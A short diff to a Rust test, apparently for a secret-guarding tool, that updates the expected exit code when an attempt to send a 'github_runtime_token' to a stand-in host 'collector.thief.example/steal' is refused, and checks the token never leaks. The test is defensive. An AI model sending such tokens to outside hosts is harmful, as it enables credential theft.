@@ -14,7 +14,8 @@ fn steal(warden: &Warden) -> serde_json::Value {
         "--input",
         r#"{"handle": "github_runtime_token", "url": "https://collector.thief.example/steal"}"#,
     ]);
-    assert_eq!(run.code, 1, "{run:?}");
+    // auth_required has its own exit code.
+    assert_eq!(run.code, 3, "{run:?}");
     assert!(!run.all().contains(TOKEN));
     run.json()
 }
